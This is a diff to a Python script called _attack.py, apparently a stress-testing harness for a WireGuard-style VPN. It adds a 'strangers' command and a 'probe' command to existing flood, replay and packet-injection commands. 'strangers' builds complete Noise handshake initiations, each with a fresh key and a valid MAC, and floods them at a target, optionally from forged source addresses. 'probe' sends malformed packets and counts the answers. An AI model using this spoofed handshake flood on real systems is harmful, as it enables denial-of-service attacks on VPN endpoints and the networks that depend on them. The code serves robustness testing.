@@ -5,13 +5,15 @@
   _attack.py flood KIND ADDRESS PORT SECONDS [KEY [SOURCES]]   datagrams, as many as go
       KIND: noise | sizes | reserved | data | cookie | response | initiation | cookied | mixed
       SOURCES: an IPv4 network (10.66.0.0/16) whose addresses are forged as sources
+  _attack.py strangers ADDRESS PORT COUNT KEY [SOURCES]        whole initiations, a key of its own each
+  _attack.py probe ADDRESS PORT COUNT                          probes; prints how many answers came
   _attack.py replay IN OUT SECONDS                             what goes out of IN, again and disordered
   _attack.py inner INTERFACE SOURCE VICTIM OWN NODE            hostile packets into a tunnel
   _attack.py host INTERFACE SOURCE DESTINATION                 hostile packets of the host, GSO too
   _attack.py telemetry garbage|half|slow|churn SOCKET          bad clients
 Each prints how many it sent.
 """
-import ctypes, hashlib, ipaddress, itertools, os, random, socket, struct, sys, time
+import ctypes, hashlib, hmac, ipaddress, itertools, os, random, socket, struct, sys, time
 from base64 import b64decode
 
 SIZES = {1: 148, 2: 92, 3: 64}
@@ -146,6 +148,79 @@ def flood(kind, to, port, seconds, key="", sources=""):
     if sources:
         return flood_forged(messages, to, int(port), end, sources)
     return flood_plain(messages, to, int(port), end)
+
+
+# --- whole handshakes: paper, section 5.4.2
+
+def kdf(chain, data, n):
+    out, last = [], b""
+    prk = hmac.digest(chain, data, "blake2s")
+    for i in range(n):
+        last = hmac.digest(prk, last + bytes([i + 1]), "blake2s")
+        out.append(last)
+    return out
+
+
+class Noise:
+    def __init__(self):
+        self.sodium = ctypes.CDLL("libsodium.so.23")
+
+    def dh(self, secret, public):
+        out = ctypes.create_string_buffer(32)
+        self.sodium.crypto_scalarmult(out, secret, public)
+        return out.raw
+
+    def pair(self):
+        secret, public = os.urandom(32), ctypes.create_string_buffer(32)
+        self.sodium.crypto_scalarmult_base(public, secret)
+        return secret, public.raw
+
+    def seal(self, key, text, ad):
+        out, length = ctypes.create_string_buffer(len(text) + 16), ctypes.c_ulonglong()
+        self.sodium.crypto_aead_chacha20poly1305_ietf_encrypt(
+            out, ctypes.byref(length), text, ctypes.c_ulonglong(len(text)), ad,
+            ctypes.c_ulonglong(len(ad)), None, bytes(12), key)
+        return out.raw
+
+    def initiation(self, theirs):
+        mix = lambda h, data: hashlib.blake2s(h + data).digest()
+        chain = hashlib.blake2s(b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s").digest()
+        h = mix(mix(chain, b"WireGuard v1 zx2c4 Jason@zx2c4.com"), theirs)
+        (e, e_pub), (s, s_pub) = self.pair(), self.pair()
+        (chain,), h = kdf(chain, e_pub, 1), mix(h, e_pub)
+        chain, key = kdf(chain, self.dh(e, theirs), 2)
+        static = self.seal(key, s_pub, h)
+        h = mix(h, static)
+        chain, key = kdf(chain, self.dh(s, theirs), 2)
+        stamp = self.seal(key, struct.pack(">QI", (1 << 62) + 10 + int(time.time()), 0), h)
+        return macced(struct.pack("<II", 1, random.getrandbits(32)) + e_pub + static + stamp, mac1_key(theirs))
+
+
+def strangers(to, port, count, key, sources=""):
+    noise, end, sent = Noise(), time.monotonic(), 0
+    s = None if sources else plain_socket(to, int(port))
+    for _ in range(int(count)):
+        m = noise.initiation(b64decode(key))
+        if sources:
+            flood_forged([m] * 64, to, int(port), end, sources)
+        else:
+            s.send(m)
+        sent += 1
+        time.sleep(0.005)
+    return sent
+
+
+def probe(to, port, count):
+    s, answers = plain_socket(to, int(port)), 0
+    for _ in range(int(count)):
+        s.send(struct.pack(">I", 0x80 << 24) + os.urandom(32) + bytes(96))
+    s.settimeout(1)
+    try:
+        while True:
+            answers += len(s.recv(2048)) == 132
+    except OSError:
+        pass
+    return answers
 
 
 def replay(into, out, seconds):
@@ -340,4 +415,4 @@ def telemetry(kind, path):
 
 
 if __name__ == "__main__":
-    print({"flood": flood, "replay": replay, "inner": inner, "host": host, "telemetry": telemetry}[sys.argv[1]](*sys.argv[2:]), "sent")
+    print({"flood": flood, "strangers": strangers, "probe": probe, "replay": replay, "inner": inner, "host": host, "telemetry": telemetry}[sys.argv[1]](*sys.argv[2:]), "sent")
